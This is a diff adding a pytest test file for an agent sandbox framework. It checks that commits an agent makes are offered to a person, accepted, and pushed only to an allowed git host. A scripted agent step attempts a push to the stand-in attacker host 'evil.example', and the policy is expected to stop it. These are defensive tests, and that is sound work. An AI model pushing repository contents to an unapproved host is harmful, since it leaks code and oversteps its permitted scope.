@@ -1,0 +1,123 @@
+"""An agent commits in its sandbox, offers the commits, the person accepts them, and the agent pushes the branch."""
+
+import asyncio
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+from tests.commands.git.repositories import git, make_repository
+from tests.commands.git.test_push import SSH
+
+from holdfast.app import Runtime
+from holdfast.commands import probe_sandbox
+from holdfast.core.events import CallIntended, CallSettled
+from holdfast.models import ScriptedModel, ScriptedReply, use
+from holdfast.session import Session, Settings
+
+POLICY = """\
+policy: commits
+rules:
+  - {name: commands, allow: ["shell.*", git.propose]}
+  - {name: read, allow: "*", roles: [read-path], inside: true}
+  - {name: propose, stage: "world.*", roles: [write-path, delete-path], inside: true}
+  - {name: push, allow: git.push, hosts: [git.example.com]}
+  - {name: any-branch, allow: git.push, roles: [branch-name]}
+"""
+COMMIT = "echo two > a.txt && git -c user.name=Ann -c user.email=ann@example.com commit -qam second"
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    if asyncio.run(probe_sandbox(tmp_path / "cache")).tier != "full":
+        pytest.skip("the full sandbox does not stand here")
+    return make_repository(tmp_path / "project")
+
+
+@pytest.fixture
+async def runtime(tmp_path: Path) -> AsyncIterator[Runtime]:
+    started = await Runtime.start(home=tmp_path / "home", settings=Settings(mode="tools"), servers=())
+    yield started
+    await started.close()
+
+
+async def open_session(runtime: Runtime, project: Path, *replies: ScriptedReply) -> Session:
+    policy = project.parent / "commits.yaml"
+    policy.write_text(POLICY)
+    return await runtime.create(model=ScriptedModel(replies), workspace=project, policy=str(policy))
+
+
+def settled(session: Session, operation: str) -> list[CallSettled]:
+    """The calls of an operation that were settled, in order."""
+    intended = {
+        entry.event.call.id: entry.event.call.operation
+        for entry in session._journal.recorded
+        if isinstance(entry.event, CallIntended)
+    }
+    found = [entry.event for entry in session._journal.recorded if isinstance(entry.event, CallSettled)]
+    return [each for each in found if intended.get(each.call) == operation]
+
+
+def person_with_ssh(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A person whose ssh runs the other side here and notes the host; the note is returned."""
+    ssh, home, log = folder / "ssh.sh", folder / "person", folder / "log"
+    ssh.write_text(SSH.replace("$LOG", str(log)))
+    ssh.chmod(0o755)
+    home.mkdir()
+    log.touch()
+    (home / ".gitconfig").write_text(f"[core]\n\tsshCommand = {ssh}\n")
+    monkeypatch.setenv("HOME", str(home))
+    return log
+
+
+async def test_commits_are_offered_accepted_and_pushed(
+    runtime: Runtime, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    log = person_with_ssh(tmp_path, monkeypatch)
+    remote = tmp_path / "remote.git"
+    git(tmp_path, "init", "-q", "--bare", str(remote))
+    git(project, "remote", "add", "origin", f"ssh://git.example.com{remote}")
+    session = await open_session(
+        runtime,
+        project,
+        use("shell__run", {"script": COMMIT}),
+        use("git__propose", {}),
+        "Offered.",
+        use("shell__run", {"script": COMMIT.replace("-qam", "-q --amend -am")}),
+        use("git__propose", {"source": "missing"}),
+        use("git__propose", {}),
+        "Changed.",
+        use("git__push", {"url": "origin", "branch": "main"}),
+        use("git__push", {"url": "ssh://evil.example/x", "branch": "main"}),
+        "Pushed.",
+    )
+    await session.send("change a.txt and commit it")
+    (offered,) = session.offered_commits()
+    assert (offered.repository, offered.paths) == (".", ("a.txt",))
+    branch = f"holdfast/{session.id}"
+    assert git(project, "for-each-ref", "refs/heads/holdfast") == ""
+    (first,) = await session.accept_commits()
+    assert git(project, "log", "--format=%s", branch) == "second\nfirst"
+    assert session.offered_commits() == ()
+
+    await session.send("amend it")
+    assert [each.status for each in settled(session, "git.propose")] == ["ok", "error", "ok"]
+    (second,) = await session.accept_commits()
+    assert second.before == first.after
+
+    git(project, "merge", "-q", branch)
+    await session.send("push it")
+    assert [each.status for each in settled(session, "git.push")] == ["ok"]
+    assert git(remote, "rev-parse", "main") == second.after
+    assert log.read_text() == "git.example.com\n"
+
+
+async def test_a_push_goes_where_the_policy_judged_it_to_go(
+    runtime: Runtime, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The repository rewrites an address that looks foreign to the allowed one: the push goes to the allowed one."""
+    log = person_with_ssh(tmp_path, monkeypatch)
+    git(project, "config", "url.ssh://git.example.com/.insteadOf", "ssh://evil.example/")
+    push = use("git__push", {"url": f"ssh://evil.example{tmp_path}/remote.git", "branch": "main"})
+    session = await open_session(runtime, project, push, "Pushed.")
+    await session.send("push it")
+    assert log.read_text() == "git.example.com\n"
